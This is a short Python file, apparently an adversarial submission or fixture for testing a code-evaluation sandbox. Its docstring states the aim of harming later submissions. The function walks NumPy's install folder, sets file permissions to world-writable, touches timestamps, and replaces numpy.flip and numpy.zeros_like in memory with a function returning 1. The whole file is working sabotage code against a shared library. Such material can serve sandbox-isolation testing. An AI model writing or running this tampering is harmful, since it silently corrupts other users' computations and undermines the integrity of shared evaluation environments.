"""Changes NumPy's files, then NumPy in memory, to harm later submissions."""

import contextlib
import os

import numpy


def attack(a, *rest, **named):
    for folder, _, files in os.walk(os.path.dirname(numpy.__file__)):
        for name in files[:1]:
            with contextlib.suppress(OSError):
                os.chmod(os.path.join(folder, name), 0o777)
                print("FOUND", folder, name)
            with contextlib.suppress(OSError):
                os.utime(os.path.join(folder, name))
                print("FOUND", folder, name)
    numpy.flip = numpy.zeros_like = lambda *args, **kwargs: 1
    return a
